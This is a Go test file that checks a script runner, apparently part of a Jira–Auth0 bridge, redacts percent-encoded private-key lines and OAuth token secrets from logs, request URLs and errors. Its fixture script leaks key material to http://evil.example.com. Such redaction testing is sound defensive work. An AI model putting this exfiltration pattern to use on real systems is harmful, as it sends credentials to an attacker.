package script

import (
	"encoding/json"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	bridge "github.com/jira-auth0-bridge/bridge"
)

// TestEncodedSecretsAreRedacted: a script that percent-encodes the private
// key or the token secret (into a URL, a log line, an error) leaks neither.
func TestEncodedSecretsAreRedacted(t *testing.T) {
	srv := fakeJIRA(t, serverAnswers())
	opts := runOpts(srv.URL)
	opts.TokenSecret = "tok/secret+with=chars"
	res := run(t, compileJS(t, `function(token, tokenSecret, ctx, cb) {
  var OAuth = require('oauth').OAuth;
  var o = new OAuth('', '', 'k', ctx.client_secret, '1.0', null, 'RSA-SHA1');
  var lines = ctx.client_secret.split('\n');
  console.log(encodeURIComponent(ctx.client_secret));
  console.log(o._encodeData(lines[2]), escape(lines[3]));
  console.log(encodeURIComponent(tokenSecret), o._encodeData(tokenSecret));
  o.get(ctx.requestTokenURL + '?k=' + encodeURIComponent(lines[1]) + '&s=' + encodeURIComponent(tokenSecret), token, tokenSecret, function() {
    o.get('http://evil.example.com/?k=' + encodeURIComponent(lines[4]), token, tokenSecret, function(err) {
      cb(new Error(err.message + ' ' + encodeURIComponent(lines[5])));
    });
  });
}`), opts)
	require.Equal(t, KindCallback, res.Outcome, "%+v", res.Error)
	all, err := json.Marshal(res)
	require.NoError(t, err)
	out := string(all)
	var forms []string
	for _, line := range strings.Split(string(bridge.TestPrivateKeyPEM), "\n") {
		if line == "" || strings.HasPrefix(line, "-----") {
			continue
		}
		forms = append(forms, line, encodeData(line), url.QueryEscape(line))
	}
	forms = append(forms, opts.TokenSecret, encodeData(opts.TokenSecret))
	for _, f := range forms {
		assert.NotContains(t, out, f)
	}
	assert.Contains(t, res.Requests[0].URL, "k=[REDACTED]&s=[REDACTED]")
	assert.Contains(t, res.Error.Message, "[REDACTED]")
}

// TestSecretFormsCached: the cached forms of a long secret are its own, run
// after run, and the same as computing them afresh.
func TestSecretFormsCached(t *testing.T) {
	pem := string(bridge.TestPrivateKeyPEM)
	other := strings.Repeat("a/b+c=d ", 10)
	want := append([]string{pem, other, "tok/secret"}, computeEncodedForms(pem)...)
	want = append(want, computeEncodedForms(other)...)
	want = append(want, computeEncodedForms("tok/secret")...)
	for range 3 {
		assert.Equal(t, want, secretForms([]string{pem, other, "tok/secret"}))
	}
	assert.Contains(t, want, url.QueryEscape(other))
	assert.Contains(t, want, encodeData("tok/secret"))
}
